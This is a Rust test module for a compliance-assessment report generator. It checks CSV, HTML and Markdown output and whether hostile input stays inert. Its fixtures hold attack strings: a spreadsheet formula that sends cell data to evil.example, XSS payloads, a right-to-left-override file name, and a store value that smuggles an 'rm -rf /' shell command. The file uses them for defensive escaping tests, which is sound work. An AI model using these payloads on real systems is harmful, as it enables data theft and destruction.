//! Each report format over a sample assessment: the committed samples, cells read back, hostile strings, a page that is well formed and asks nobody for anything.

#![cfg(test)]

mod browser;
mod folder;
mod oscal;
#[cfg(feature = "parquet")]
mod parquet;
mod sample;
mod sample_deviations;
mod sample_tasks;
mod spreadsheet;
mod workbook;
mod year;

use std::collections::BTreeMap;
use std::fs;
use std::path::{Path, PathBuf};

use proofline::model::{Assessment, Cited, ControlAssessment, Digest, Exchange, Observation, Verdict};
use proofline::report::{FORMATS, Files, Fill, ReportError};

use sample::assessment;

fn samples() -> PathBuf {
    Path::new(env!("CARGO_MANIFEST_DIR")).join("reports/samples")
}

fn render(format: &str, of: &Assessment) -> BTreeMap<String, Vec<u8>> {
    let format = FORMATS.iter().find(|known| known.name() == format).expect("a format");
    let mut held = Held::default();
    format.render(of, &mut held).expect("it can be written");
    held.0
}

/// Files in memory.
#[derive(Default)]
struct Held(BTreeMap<String, Vec<u8>>);

impl Files for Held {
    fn file(&mut self, path: &str, fill: &mut Fill<'_>) -> Result<Digest, ReportError> {
        let mut bytes = Vec::new();
        fill(&mut bytes)?;
        let digest = Digest::of(&bytes);
        assert!(self.0.insert(path.to_owned(), bytes).is_none(), "two files are called {path}");
        Ok(digest)
    }
}

fn page(of: &Assessment) -> String {
    String::from_utf8(render("html", of).remove("index.html").expect("the page")).expect("UTF-8")
}

/// The header line and the rows of one CSV file, as the csv crate reads them.
fn table(of: &Assessment, name: &str) -> (Vec<String>, Vec<Vec<String>>) {
    let bytes = render("csv", of).remove(name).expect("the file");
    let mut reader = csv::Reader::from_reader(bytes.as_slice());
    let texts = |record: &csv::StringRecord| record.iter().map(ToOwned::to_owned).collect::<Vec<_>>();
    let header = texts(reader.headers().expect("a header line"));
    let rows = reader.records().map(|record| texts(&record.expect("as many cells as columns"))).collect();
    (header, rows)
}

/// The cell of a row by its column.
fn cell<'a>(header: &[String], row: &'a [String], column: &str) -> &'a str {
    &row[header.iter().position(|name| name == column).unwrap_or_else(|| panic!("no column {column}"))]
}

/// The committed samples are what the formats render today. `PROOFLINE_WRITE_SAMPLES=1 cargo test --test it report::` writes them anew.
#[test]
fn samples_are_what_the_formats_render() {
    let of = assessment();
    // Not every build has Parquet, and nobody reads its bytes.
    let shown = FORMATS.iter().filter(|format| format.name() != "parquet");
    let rendered: BTreeMap<String, Vec<u8>> = shown.flat_map(|format| render(format.name(), &of)).collect();
    #[expect(clippy::disallowed_methods, reason = "a developer asks for new samples through the environment")]
    let write = std::env::var_os("PROOFLINE_WRITE_SAMPLES").is_some();
    if write {
        for (path, bytes) in &rendered {
            fs::write(samples().join(path), bytes).expect("written");
        }
    }
    for (path, bytes) in &rendered {
        let committed = fs::read(samples().join(path)).unwrap_or_default();
        assert!(committed == *bytes, "reports/samples/{path} differs; look at the change, then write the samples anew with PROOFLINE_WRITE_SAMPLES=1");
    }
    for entry in fs::read_dir(samples()).expect("the folder") {
        let name = entry.expect("an entry").file_name().into_string().expect("UTF-8");
        assert!(rendered.contains_key(&name), "no format renders reports/samples/{name} any more");
    }
}

#[test]
fn every_csv_file_is_rfc_4180_and_its_companion_has_its_digest_and_rows() {
    let of = assessment();
    let files = render("csv", &of);
    for (path, bytes) in &files {
        let text = std::str::from_utf8(bytes).expect("UTF-8");
        assert!(!text.starts_with('\u{feff}'), "{path} begins with a byte order mark");
        assert_eq!(text.matches('\n').count(), text.matches("\r\n").count(), "{path} has a bare line feed");
        let (_, rows) = table(&of, path);
        assert_eq!(text.matches("\r\n").count(), rows.len() + 1, "{path}: one record a line");
        if path.ends_with(".ipe.csv") {
            continue;
        }
        let (_, about) = table(&of, &path.replace(".csv", ".ipe.csv"));
        let says = |item: &str| about.iter().find(|row| row[0] == item).map(|row| row[1].clone()).unwrap_or_else(|| panic!("{path}: no {item}"));
        assert_eq!(says("file"), *path);
        assert_eq!(says("sha256"), Digest::of(bytes).to_string());
        assert_eq!(says("rows"), rows.len().to_string());
        assert_eq!(says("parameter.time_zone"), "Europe/Berlin");
        assert_eq!(says("gap.timing"), "14 of 72 due slots in which nothing ran; 0 of these were told afterwards");
        assert!(!says("query").is_empty() && !says("source.store").is_empty());
        let runs = match path.as_str() {
            "tasks.csv" => 1,
            "results.csv" | "controls.csv" | "populations.csv" | "evidence.csv" => 2,
            _ => 8,
        };
        assert_eq!(about.iter().filter(|row| row[0] == "source.run").count(), runs, "{path}");
        assert_eq!(about.iter().filter(|row| row[0] == "match.population").count(), 8);
        assert_eq!(about.iter().filter(|row| row[0] == "gap.population").count(), 1);
    }
    assert_eq!(files.len(), 28);
}

#[test]
fn every_result_reads_back_cell_by_cell() {
    let of = assessment();
    let (header, rows) = table(&of, "results.csv");
    let wanted: Vec<Observation> = of.controls.iter().flat_map(|control| control.observations.iter()).collect();
    assert_eq!(rows.len(), wanted.len());
    for (row, seen) in rows.iter().zip(wanted) {
        let evidence = seen.evidence.iter().map(ToString::to_string).collect::<Vec<_>>().join("; ");
        for (column, text) in [
            ("control_id", seen.control.as_str()),
            ("resource_kind", &*seen.kind),
            ("resource_id", seen.resource.as_str()),
            ("resource_name", &*seen.name),
            ("verdict", seen.verdict.as_str()),
            ("because", &*seen.because),
            ("evidence", evidence.as_str()),
        ] {
            assert_eq!(cell(&header, row, column), text, "{column}");
        }
        let digests: Vec<_> = cell(&header, row, "evidence_sha256").split("; ").collect();
        let found = |n: &u32| of.evidence.iter().find(|cited| cited.exchange.n == *n).map(|cited| cited.exchange.sha256.to_string());
        assert_eq!(digests, seen.evidence.iter().filter_map(found).collect::<Vec<_>>());
    }
}

#[test]
fn missed_slots_and_uncovered_criteria_are_rows() {
    let of = assessment();
    let (header, rows) = table(&of, "slots.csv");
    assert_eq!(rows.len(), of.controls.iter().map(|control| control.slots.len()).sum::<usize>());
    let missed: Vec<_> = rows.iter().filter(|row| cell(&header, row, "control_id") == "REP-03" && cell(&header, row, "state") == "not-run").collect();
    assert_eq!(missed.iter().map(|row| cell(&header, row, "slot")).collect::<Vec<_>>(), ["2026-11-14", "2026-11-15"]);
    assert!(missed.iter().all(|row| cell(&header, row, "runs").is_empty()));

    let (header, rows) = table(&of, "controls.csv");
    let row = rows.iter().find(|row| cell(&header, row, "control_id") == "REP-03").expect("REP-03");
    let expected = [
        ("slots_due", "10"),
        ("slots_run", "8"),
        ("slots_not_run", "2"),
        ("slots_pass", "3"),
        ("slots_fail", "5"),
        ("slots_pending", "2"),
        ("slots_before_start", "2"),
        ("longest_gap_slots", "2"),
        ("in_scope", "7"),
        ("fail", "2"),
        ("not_applicable", "2"),
        ("conclusion", "not-satisfied"),
        ("changed_in_period", "yes"),
        ("judged_at", "2026-11-20T02:00:00Z"),
    ];
    for (column, text) in expected {
        assert_eq!(cell(&header, row, column), text, "{column}");
    }
    let row = rows.iter().find(|row| cell(&header, row, "control_id") == "ACC-12").expect("ACC-12");
    assert_eq!((cell(&header, row, "conclusion"), cell(&header, row, "pass")), ("not-run", ""), "nothing judged is not zero passes");

    let (header, rows) = table(&of, "criteria.csv");
    let uncovered: Vec<_> = rows.iter().filter(|row| cell(&header, row, "covered") == "no").map(|row| cell(&header, row, "criterion")).collect();
    assert_eq!(uncovered, ["soc2:CC7.2", "soc2:CC7.4"]);
}

#[test]
fn the_page_says_what_an_auditor_looks_for() {
    let text = page(&assessment());
    for needed in [
        "<html lang=\"en\">",
        "Example Ltd",
        "2026-11-09 to 2026-11-22",
        "2026-11-09T00:00:00+01:00",
        "nothing ran in 2 of 10 due slots, longest gap: <span class=\"nb\">2 slots, 2026-11-14 to 2026-11-15",
        "storage.buckets.list on projects/example-sandbox",
        "branch.required_approvals &gt;= params.approvals &amp;&amp;\n!branch.allows_force_push",
        "The definition changed in the period.",
        "unchanged since <time datetime=\"2026-11-16T02:00:04Z\">",
        "soc2:CC7.4",
        "Match to the source",
        "9 read, reconciled; github.com/example: 9, second count 9",
        "| sha256sum\n",
    ] {
        assert!(text.contains(needed), "the page does not say {needed:?}");
    }
    let place = |id: &str| text.find(&format!("<article class=\"control\" id=\"control-{id}\"")).expect("a section");
    let order = ["REP-03", "CHG-01", "IAM-07", "STO-01", "ACC-04", "ACC-12", "GKE-02", "ACC-01", "TSK-04"];
    assert!(order.windows(2).all(|pair| place(pair[0]) < place(pair[1])), "failures come first, then what is not known");
    let article = &text[place("REP-03")..place("CHG-01")];
    assert!(article.find("Failures (2)") < article.find("Passes (5)"));
    assert_eq!(article.matches("class=\"url\"").count(), 6, "each failure cites the address of each exchange behind it");
}

#[test]
fn waivers_are_told_with_what_they_cover_and_what_is_odd() {
    let of = assessment();
    let text = page(&of);
    for needed in [
        "satisfied with waivers",
        ", without waivers <b>not satisfied</b>,",
        "nodes have public addresses",
        "fails; waived by <a href=\"#waiver-WVR-2026-004\">WVR-2026-004</a>",
        "1 fail and are waived by WVR-2026-004: staging-eu",
        "<td class=\"slot waived\"",
        "satisfied, because waivers cover what fails",
        "unused: it covered no failure",
        "did not hold it; first declared in run",
        "renewed by WVR-2026-004",
        "<b>5</b> control-days of the period had at least one waived failure",
        "<b>1 more fail and are waived</b>",
    ] {
        assert!(text.contains(needed), "the page does not say {needed:?}");
    }
    assert!(page(&empty()).contains("No waiver was declared in the period."));
    let (header, rows) = table(&of, "waivers.csv");
    let column = |name: &str| rows.iter().map(|row| cell(&header, row, name).to_owned()).collect::<Vec<_>>();
    assert_eq!(column("waiver_id"), ["WVR-2026-002", "WVR-2026-003", "WVR-2026-004"]);
    assert_eq!(column("status_at_period_end"), ["expired", "in-force", "in-force"]);
    assert_eq!((column("unused").join(" "), column("retroactive").join(" ")), ("yes yes no".to_owned(), "no yes no".to_owned()));
    assert_eq!(column("waived_control_days"), ["0", "0", "5"]);
    let (header, rows) = table(&of, "results.csv");
    let waived: Vec<_> = rows.iter().filter(|row| cell(&header, row, "verdict") == "waived").collect();
    assert_eq!(waived.len(), 1);
    assert_eq!((cell(&header, waived[0], "raw_verdict"), cell(&header, waived[0], "waiver_id")), ("fail", "WVR-2026-004"));
    let (header, rows) = table(&of, "controls.csv");
    let row = rows.iter().find(|row| cell(&header, row, "control_id") == "GKE-02").expect("GKE-02");
    assert_eq!((cell(&header, row, "conclusion"), cell(&header, row, "raw_conclusion"), cell(&header, row, "waived")), ("satisfied", "not-satisfied", "1"));
    assert_eq!((cell(&header, row, "slots_waived"), cell(&header, row, "slots_pass"), cell(&header, row, "slots_run")), ("5", "1", "8"));
}

#[test]
fn the_page_is_well_formed_and_asks_nobody_for_anything() {
    for of in [assessment(), hostile(), empty()] {
        let text = page(&of);
        let tags = balanced(&text);
        let ids: Vec<_> = tags.iter().filter_map(|tag| attribute(tag, "id")).collect();
        let files: Vec<String> = render("csv", &of).into_keys().collect();
        for tag in &tags {
            assert!(!tag.starts_with("img") && !tag.starts_with("link") && !tag.starts_with("iframe"), "{tag}");
            assert!(attribute(tag, "src").is_none() && attribute(tag, "style").is_none(), "{tag}");
            assert!(!tag.split_whitespace().any(|part| part.starts_with("on")), "{tag}");
            let Some(link) = attribute(tag, "href") else { continue };
            match link.strip_prefix('#') {
                Some(anchor) => assert!(ids.contains(&anchor), "nothing is named {anchor}"),
                None => assert!(files.iter().any(|file| file == link), "{link} is no file of the report"),
            }
        }
        let mut sorted = ids.clone();
        sorted.sort_unstable();
        sorted.dedup();
        assert_eq!(sorted.len(), ids.len(), "two elements have one id");
        assert!(text.contains("default-src 'none'; script-src 'sha256-") && tags.iter().filter(|tag| tag.starts_with("script")).count() == 1);
        assert!(tags.iter().filter(|tag| tag.starts_with("th ") || *tag == "th").all(|tag| attribute(tag, "scope").is_some()), "every header cell has a scope");
        let style = text.split("<style>").nth(1).and_then(|rest| rest.split("</style>").next()).expect("the style");
        assert!(!style.contains("url(") && !style.contains("@import"));
    }
}

/// The tags without their angle brackets, after checking that each closes what was opened last.
fn balanced(text: &str) -> Vec<String> {
    const VOID: [&str; 3] = ["meta", "br", "input"];
    let mut open: Vec<String> = Vec::new();
    let mut tags = Vec::new();
    for part in text.split('<').skip(1) {
        let (tag, _) = part.split_once('>').unwrap_or_else(|| panic!("a tag is not closed: {part:.80}"));
        if let Some(name) = tag.strip_prefix('/') {
            assert_eq!(open.pop().as_deref(), Some(name), "closed out of order");
        } else if !tag.starts_with('!') {
            let name = tag.split_whitespace().next().unwrap_or_default().to_owned();
            assert!(name.chars().all(|c| c.is_ascii_alphanumeric()), "{name:?} is no element");
            if !VOID.contains(&name.as_str()) {
                open.push(name);
            }
            tags.push(tag.to_owned());
        }
    }
    assert!(open.is_empty(), "never closed: {open:?}");
    tags
}

fn attribute<'a>(tag: &'a str, name: &str) -> Option<&'a str> {
    let (_, rest) = tag.split_once(&format!(" {name}=\""))?;
    rest.split('"').next()
}

const ATTACKS: [&str; 8] = [
    "=HYPERLINK(\"http://evil.example/?\"&A1,\"click\")",
    "<script>alert(1)</script>",
    "\" onmouseover=\"alert(1)",
    "</title></style><img src=x onerror=alert(1)>",
    "invoice\u{202e}fdp.exe",
    "nul\u{0}bell\u{7}esc\u{1b}[31m",
    "two\r\nlines,\"quoted\"\t@tab",
    "\u{ff1d}1+1",
];

/// The sample with every text that a source or a user may name replaced by an attack.
/// Changes what a control says of each resource.
fn each_row(control: &mut ControlAssessment, mut change: impl FnMut(&mut Observation)) {
    let changed = control.observations.iter().map(|mut seen| {
        change(&mut seen);
        seen
    });
    control.observations = changed.collect();
}

fn hostile() -> Assessment {
    let mut of = assessment();
    let mut attacks = ATTACKS.iter().map(|attack| (*attack).to_owned()).cycle();
    let mut next = || attacks.next().expect("endless");
    (of.entity, of.store, of.tool) = (next(), "file:x'; rm -rf /".to_owned(), next());
    of.time_zone = "<b>Nowhere".to_owned();
    for control in &mut of.controls {
        (control.control.title, control.control.owner, control.control.why, control.control.fix) = (next(), next(), next(), next());
        control.control.tests.iter_mut().for_each(|test| test.require.0 = next());
        control.findings.iter_mut().flat_map(|(_, finding)| &mut finding.reasons).for_each(|reason| *reason = next());
        each_row(control, |seen| (seen.name, seen.because) = (next().into(), next().into()));
    }
    for waiver in of.waivers.iter_mut().map(|of| &mut of.waiver) {
        (waiver.resource, waiver.reason, waiver.compensating, waiver.ticket) = (next(), next(), Some(next()), next());
        (waiver.requested_by, waiver.approved_by, waiver.file) = (next(), next(), next());
    }
    let waived = of.controls.iter_mut().find(|control| !control.observations.is_empty()).expect("observations");
    let mut is_first = true;
    each_row(waived, |seen| {
        if std::mem::take(&mut is_first) {
            (seen.verdict, seen.name) = (Verdict::Waived, "x".repeat(10_240).into());
            seen.evidence = seen.evidence.iter().copied().chain([4_000_000]).collect();
        }
    });
    for (_, population) in &mut of.populations {
        population.definition = next();
        population.tallies.iter_mut().for_each(|tally| (tally.tenant, tally.second_source) = (next(), next()));
        population.gaps.iter_mut().for_each(|gap| gap.detail = next());
    }
    of.populations[0].1.tallies.clear();
    of.populations[1].1.tallies[0].second_count = Some(77);
    for episode in &mut of.episodes {
        (episode.name, episode.because) = (next(), next());
    }
    for Cited { exchange, .. } in &mut of.evidence {
        (exchange.operation, exchange.subject, exchange.url) = (next(), next(), next());
        exchange.error = Some(next());
    }
    of
}

/// Nothing at all: no control, no run.
fn empty() -> Assessment {
    let mut of = assessment();
    (of.controls, of.criteria, of.runs, of.populations, of.evidence, of.scope) = (Vec::new(), Vec::new(), Vec::new(), Vec::new(), Vec::new(), None);
    (of.log, of.days, of.episodes, of.waivers) = (None, Vec::new(), Vec::new(), Vec::new());
    of
}

fn is_unseen(c: char) -> bool {
    c.is_control() || matches!(c, '\u{200e}' | '\u{200f}' | '\u{202a}'..='\u{202e}' | '\u{2066}'..='\u{2069}')
}

#[test]
fn the_deviation_register_tells_what_failed_how_long_and_whether_the_cure_held() {
    let of = assessment();
    let (header, rows) = table(&of, "deviations.csv");
    let told = |row: &Vec<String>| {
        ["control_id", "outcome", "hours_lasted", "days_allowed", "within_time", "failed_before", "came_back", "definition_changed"]
            .map(|column| cell(&header, row, column).to_owned())
    };
    let expected = [
        // Prepared at 08:30 on the 20th, two days and six hours after it was first seen.
        ["CHG-01", "open", "54", "10", "yes", "no", "no", "no"],
        ["GKE-02", "fixed", "48", "10", "yes", "no", "no", "yes"],
        ["IAM-07", "open", "222", "10", "yes", "no", "no", "no"],
        ["REP-03", "fixed", "96", "3", "no", "no", "yes", "no"],
        ["REP-03", "open", "30", "3", "yes", "yes", "no", "no"],
    ];
    assert_eq!(rows.iter().map(told).collect::<Vec<_>>(), expected);
    let cured = &rows[3];
    assert_eq!(cell(&header, cured, "retest_run"), of.episodes[3].ended.as_ref().expect("ended").run.as_str());
    assert_eq!(cell(&header, cured, "retest_evidence"), "5");
    assert_eq!(cell(&header, cured, "last_good"), "2026-11-12T02:00:00Z");

    let text = page(&of);
    let section = text.split("id=\"deviations\"").nth(1).and_then(|rest| rest.split("</section>").next()).expect("the section");
    let order: Vec<usize> = of.episodes.iter().map(|episode| section.find(&format!("id=\"d-{}\"", episode.id)).expect("a row")).collect();
    assert!(order[4] < order[0] && order[0] < order[3], "open ones first, the more severe before the less");
    for needed in [
        "<b>late</b>",
        "this cure did not hold",
        "that cure did not hold",
        "never seen good before",
        "<b>open</b>, waived",
        "1 run since did not show it, or could not tell",
    ] {
        assert!(section.contains(needed), "{needed}");
    }
    assert!(page(&empty()).contains("Nothing failed in this period, as far as runs tell."));

    // A severity without a time has nothing to be late for.
    let mut without = assessment();
    without.remediation.clear();
    // A task can be late too, by the calendar.
    without.tasks.clear();
    let (header, rows) = table(&without, "deviations.csv");
    assert!(rows.iter().all(|row| cell(&header, row, "within_time").is_empty() && cell(&header, row, "days_allowed").is_empty()));
    assert!(!page(&without).contains("<b>late</b>"));
}

#[test]
fn hostile_text_stays_text_in_csv() {
    let of = hostile();
    for (path, bytes) in render("csv", &of) {
        let (header, rows) = table(&of, &path);
        let text = String::from_utf8(bytes).expect("UTF-8");
        assert!(!text.chars().any(|c| is_unseen(c) && c != '\r' && c != '\n'), "{path} holds a character that acts unseen");
        for (column, content) in rows.iter().flat_map(|row| header.iter().zip(row)) {
            let first = content.trim_start().chars().next();
            let ours = column == "difference" || column == "seconds";
            assert!(ours || !matches!(first, Some('=' | '+' | '-' | '@' | '\u{ff1d}')), "{path} {column}: {content:?}");
            assert!(content.len() < 64 || path != "controls.csv" || !content.contains('\n'));
        }
    }
    let (header, rows) = table(&of, "results.csv");
    let names: Vec<_> = rows.iter().map(|row| cell(&header, row, "resource_name")).collect();
    for written in [
        "'=HYPERLINK(\"http://evil.example/?\"&A1,\"click\")",
        "invoice\\u{202e}fdp.exe",
        "two\\r\\nlines,\"quoted\"\\t@tab",
        "'\u{ff1d}1+1",
        &"x".repeat(10_240),
    ] {
        assert!(names.contains(&written), "{written:.60}");
    }
}

#[test]
fn hostile_text_stays_text_on_the_page() {
    let text = page(&hostile());
    assert!(!text.chars().any(|c| is_unseen(c) && c != '\n'), "the page holds a character that acts unseen");
    assert!(text.matches("<script").count() == 1 && !text.contains("<img") && !text.contains("<b>Nowhere"));
    for written in [
        "&lt;script&gt;alert(1)&lt;/script&gt;",
        "invoice\\u{202e}fdp.exe",
        "nul\\u{0}bell\\u{7}esc\\u{1b}[31m",
        "cd 'x'\\''; rm -rf /'",
        "#4000000</b> is not in this assessment",
        "10,240 characters",
    ] {
        assert!(text.contains(written), "{written}");
    }
    assert!(!text.contains(&"x".repeat(1_000)), "a very long name is cut");
    assert!(text.contains("Waived failures (1)"));
    assert!(text.contains("<b>77 ≠</b>") && text.contains("every page was read, but a second count disagrees"));
}

fn summary(of: &Assessment) -> String {
    String::from_utf8(render("markdown", of).remove("summary.md").expect("the summary")).expect("UTF-8")
}

/// What stands outside of code spans: each ends with as many backticks as it begins with.
fn outside_code(text: &str) -> String {
    let mut outside = String::new();
    let mut rest = text;
    while let Some(start) = rest.find('`') {
        outside.push_str(&rest[..start]);
        let fence = rest[start..].len() - rest[start..].trim_start_matches('`').len();
        let body = &rest[start + fence..];
        let mut from = 0;
        let end = loop {
            let at = from + body[from..].find('`').expect("a code span is closed");
            let run = body[at..].len() - body[at..].trim_start_matches('`').len();
            if run == fence {
                break at + run;
            }
            from = at + run;
        };
        rest = &body[end..];
    }
    outside + rest
}

#[test]
fn the_summary_says_what_counts_and_nothing_in_it_acts() {
    let text = summary(&assessment());
    for needed in [
        "# Controls of `Example Ltd`",
        "- **3** of 9 controls not satisfied: REP-03, CHG-01, IAM-07",
        "of 72",
        "REP-03: longest gap 2 slots, 2026-11-14 to 2026-11-15",
        "5 deviations in the period: 3 open (0 overdue), 2 cured, 1 of these came back.",
        "| CHG-01 | high | `web#327 =SUM(A1:A9) is wrong in the export` |",
        "`soc2:CC7.4`",
        "12 of 14 criteria are covered",
    ] {
        assert!(text.contains(needed) || needed == "of 72" && text.contains("Of 72 slots due"), "{needed}: {text}");
    }
    let hostile = summary(&hostile());
    let outside = outside_code(&hostile);
    assert!(!outside.contains(['<', '@', '[', ']', '!', '\u{202e}', '\u{7}']) && !outside.contains("http"), "{outside}");
    let table: Vec<&str> = hostile.lines().filter(|line| line.starts_with("| ")).collect();
    let columns = |line: &&str| line.replace("\\|", "").matches('|').count() - 1;
    let (facts, deviations): (Vec<&str>, Vec<&str>) = table.iter().partition(|line| columns(line) == 2);
    assert!(deviations.len() > 2 && deviations.iter().all(|line| columns(line) == 7), "{table:?}");
    assert!(facts.len() > 20 && facts.iter().any(|line| line.starts_with("| `source.identity` | ")), "{facts:?}");
    assert!(summary(&empty()).contains("Nothing."));
    let mut many = assessment();
    many.episodes = many.episodes.iter().cycle().take(400).cloned().collect();
    assert!(summary(&many).contains("\nand ") && summary(&many).len() < 20_000);
}

#[test]
fn long_tables_are_cut_and_say_so() {
    let mut of = assessment();
    let control = of.controls.iter_mut().find(|control| control.control.id.as_str() == "REP-03").expect("REP-03");
    let fail = control.observations.iter().find(|seen| seen.verdict == Verdict::Fail).expect("a failure");
    control.observations = (0..1_204)
        .map(|n| Observation { resource: format!("github.com/example/r{n}").parse().expect("an id"), evidence: [n + 1, n + 2].into(), ..fail.clone() })
        .collect();
    let model = of.evidence[0].clone();
    of.evidence = (1..=1_205).map(|n| Cited { exchange: Exchange { n, ..model.exchange.clone() }, ..model.clone() }).collect();
    let gap = of.populations[0].1.gaps[0].clone();
    of.populations[0].1.gaps = vec![gap; 1_000];
    let tenant = of.populations[1].1.tallies[0].clone();
    of.populations[1].1.tallies = vec![tenant; 300];
    let text = page(&of);
    let tags = balanced(&text);
    assert!(text.contains("Rows shown / total: 203 / 1,003."), "gaps are cut");
    assert!(text.contains("Rows shown / total: 47 / 307."), "tenants are cut");
    assert!(text.contains("Rows shown / total: 200 / 1,204. <strong>Not all rows are shown. </strong>All rows: <a href=\"results.csv\">"));
    assert!(text.contains("Rows shown / total: 200 / 1,205."), "the evidence index is cut");
    assert_eq!(tags.iter().filter(|tag| attribute(tag, "id").is_some_and(|id| id.starts_with("e-"))).count(), 200);
    assert_eq!(table(&of, "results.csv").1.iter().filter(|row| row[3] == "REP-03").count(), 1_204, "the CSV file has all of them");
}

#[test]
fn what_was_taken_out_of_answers_is_counted_and_named() {
    let mut of = assessment();
    let (header, rows) = table(&of, "evidence.csv");
    let redacted: Vec<_> = rows.iter().map(|row| cell(&header, row, "redacted")).filter(|places| !places.is_empty()).collect();
    assert_eq!(redacted.len(), 3, "the organisation and two pages of changes");
    assert_eq!(redacted[0], "/billing_email; /email");
    let page = |of: &Assessment| String::from_utf8(render("html", of).remove("index.html").expect("the page")).expect("UTF-8");
    let html = page(&of);
    assert!(html.contains(&format!("taken out of 3 of {} cited answers", of.evidence.len())), "{html}");
    let row = "<code><bdi>/data/search/nodes/*/author/email</bdi></code></th><td><bdi>graphql/pull-requests</bdi></td><td class=\"num\">2</td>";
    assert!(html.contains(row), "{html}");
    // A member's name is a source's text: it is escaped.
    of.evidence[0].exchange.redacted = vec!["/<script>".to_owned()];
    assert!(page(&of).contains("/&lt;script&gt;") && page(&of).matches("<script").count() == 1);
    of.evidence.iter_mut().for_each(|cited| cited.exchange.redacted.clear());
    assert!(page(&of).contains("No cited answer has anything taken out."));
}
